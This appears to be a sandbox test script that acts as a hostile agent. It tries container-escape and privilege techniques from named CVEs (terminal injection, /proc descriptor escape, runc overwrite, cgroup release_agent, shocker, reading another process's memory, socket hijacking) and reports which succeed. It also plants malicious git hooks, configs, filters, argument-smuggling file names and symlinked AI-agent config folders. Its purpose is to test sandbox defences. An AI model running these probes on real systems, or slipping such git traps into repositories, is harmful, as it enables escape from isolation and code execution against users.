"""A hostile agent, run inside a sandbox: tries what public reports describe, and prints what it won, as JSON.

Started as a file with one JSON argument; standard library alone.
"""

import ctypes
import fcntl
import json
import os
import socket
import stat
import sys
import termios
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

ASKED: dict[str, Any] = json.loads(sys.argv[1]) if __name__ == "__main__" else {}
libc = ctypes.CDLL(None, use_errno=True)
# x86-64: pivot_root, chroot, setns, pidfd_open, pidfd_getfd, open_by_handle_at, process_vm_readv, kexec_load,
# init_module, add_key, fsconfig, swapon, acct, quotactl, reboot
PIDFD_OPEN, PIDFD_GETFD, OPEN_BY_HANDLE, READ_MEMORY = 434, 438, 304, 310
PRIVILEGED = (155, 161, 308, 246, 175, 248, 431, 167, 163, 179, 169)


def processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit()]


def attempt(what: Callable[[], object]) -> bool:
    with suppress(OSError, ValueError):
        what()
        return True
    return False


def typed_into_the_terminal() -> list[str]:
    """CVE-2017-5226: characters pushed into the terminal of whoever started the sandbox."""
    ends = [0, 1, 2]
    with suppress(OSError):
        ends.append(os.open("/dev/tty", os.O_RDWR))
    return [
        f"descriptor {end}" for end in ends if attempt(lambda e=end: fcntl.ioctl(e, termios.TIOCSTI, b"x"))
    ]


def walked_out_by_a_descriptor() -> list[str]:
    """CVE-2024-21626: a descriptor of a folder outside, left open in the first process."""
    won = []
    for process in processes():
        folder = f"/proc/{process}/fd"
        names = [f"{folder}/{name}" for name in os.listdir(folder)] if os.access(folder, os.R_OK) else []
        for start in (*names, f"/proc/{process}/root", f"/proc/{process}/cwd"):
            for path in (ASKED["secret"], "../usage.json", "../../run/uid", "../server.json"):
                if attempt(lambda p=f"{start}/{path}": Path(p).read_bytes()):
                    won.append(f"{start}/{path}")
    return won


def overwrote_a_program() -> list[str]:
    """CVE-2019-5736: the program of a process outside, by /proc/PID/exe; and what the next start runs."""
    programs = [f"/proc/{process}/exe" for process in processes()] + [sys.executable, *ASKED["programs"]]
    return [path for path in programs if attempt(lambda p=path: Path(p).open("r+b").close())]


def changed_the_kernel() -> list[str]:
    """CVE-2022-0492 and its kin: programs that the kernel starts outside, and switches of the machine."""
    files = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sysrq-trigger",
        "/proc/sys/vm/overcommit_memory",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/release_agent",
        "/sys/fs/cgroup/cgroup.procs",
        "/dev/mem",
        "/dev/kmsg",
    ]
    return [path for path in files if attempt(lambda p=path: os.close(os.open(p, os.O_WRONLY)))]


def linked_or_handled_a_file() -> list[str]:
    """Docker's `shocker`, and hard links to files that others may then change."""
    won = [path for path in ASKED["others"] if attempt(lambda p=path: os.link(p, "linked"))]
    handle = ctypes.create_string_buffer(bytes((8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0)))
    root = os.open("/", os.O_RDONLY)
    return won + (["handle"] if libc.syscall(OPEN_BY_HANDLE, root, handle, 0) >= 0 else [])


def took_over_sockets() -> list[str]:
    """What the worker and the relay meet on, replaced by one's own."""
    won = []
    for folder in {"/run/railmend", ASKED["sockets"]}:
        with socket.socket(socket.AF_UNIX) as mine:
            if attempt(lambda f=folder: mine.bind(f"{f}/mine.sock")):
                won.append(f"made {folder}/mine.sock")
        for name in ("gateway.sock", "egress.sock", "server.sock"):
            if attempt(lambda p=f"{folder}/{name}": os.unlink(p)):
                won.append(f"removed {folder}/{name}")
    return won


def swapped_a_folder() -> list[str]:
    """headlong#72: what is mounted next time is chosen by a link."""
    won = []
    for folder in ASKED["folders"]:
        if attempt(lambda f=folder: os.rename(f, f + ".away")) or attempt(lambda f=folder: os.rmdir(f)):
            os.symlink("/", folder)
            won.append(folder)
    return won


def took_from_another_process() -> list[str]:
    """Descriptors and memory of the worker, and of whatever is not this user's."""
    won, buffer = [], ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    for process in {*ASKED["processes"], *map(int, processes())}:
        with suppress(OSError):
            if os.stat(f"/proc/{process}").st_uid == os.getuid() and process not in ASKED["processes"]:
                continue
        handle = libc.syscall(PIDFD_OPEN, process, 0)
        if handle >= 0 and any(libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0 for number in range(20)):
            won.append(f"descriptor of {process}")
        there = (ctypes.c_size_t * 2)(0x400000, 64)
        if libc.syscall(READ_MEMORY, process, vector, 1, there, 1, 0) > 0:
            won.append(f"memory of {process}")
    return won


def called_what_root_may() -> list[str]:
    won = [str(call) for call in PRIVILEGED if libc.syscall(call, b"/", b"/", 0, 0, 0) >= 0]
    device = os.makedev(1, 1)
    return won + (["mknod"] if attempt(lambda: os.mknod("mem", stat.S_IFCHR | 0o666, device)) else [])


def left_for_git() -> list[str]:
    """codex#37081, entire-graph#134, hermes-webui#3769, qwen-code#11614, CVE-2025-48384, CVE-2014-9390."""
    touch = f"touch {ASKED['marker']}"
    settings = (
        f"[core]\n fsmonitor = {touch}\n sshCommand = {touch}\n editor = {touch}\n hooksPath = hooks\n"
        f"[gpg]\n program = {touch}\n[log]\n showSignature = true\n[diff]\n external = {touch}\n"
        f'[filter "evil"]\n clean = {touch}\n smudge = {touch}\n process = {touch}\n required = true\n'
        f'[remote "origin"]\n url = ext::{touch}\n uploadpack = {touch}\n[protocol "ext"]\n allow = always\n'
        f"[credential]\n helper = !{touch}\n[include]\n path = {ASKED['secret']}\n"
    )
    hook = f"#!/bin/sh\n{touch}\n"
    for folder in (".git", "vendor/sub/.git", "GIT~1", ".GIT", ".g\u200cit", "vendor/module\r"):
        for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction"):
            place = Path(folder, "hooks", name)
            with suppress(OSError):
                place.parent.mkdir(parents=True, exist_ok=True)
                place.write_text(hook)
                place.chmod(0o755)
                Path(folder, "config").write_text(settings)
    Path("linked").mkdir(exist_ok=True)
    Path("linked/.git").write_text(f"gitdir: {ASKED['folders'][0]}/vendor/sub/.git\n")
    Path(".gitattributes").write_text("* filter=evil diff=evil merge=evil ident export-subst\n")
    Path(".gitmodules").write_text(
        '[submodule "x"]\n path = "vendor/module\r"\n url = ext::x\n update = !x\n'
    )
    os.mkfifo("pipe")
    socket.socket(socket.AF_UNIX).bind("socket")
    for name in (b"--upload-pack=touch", b":(exclude)*", b"a\nb", b"caf\xe9", b"-", b'"', b"\xff"):
        Path(os.fsdecode(name)).write_text("x\n")
    for name in (".opencode", ".claude", ".agents", "opencode.json"):
        os.symlink(ASKED["outside"], name)
    return []


ATTACKS: list[Callable[[], list[str]]] = [
    typed_into_the_terminal,
    walked_out_by_a_descriptor,
    overwrote_a_program,
    changed_the_kernel,
    linked_or_handled_a_file,
    took_over_sockets,
    took_from_another_process,
    called_what_root_may,
    left_for_git,
    swapped_a_folder,
]

if __name__ == "__main__":
    sys.stdout.write(json.dumps({attack.__name__: attack() for attack in ATTACKS}))
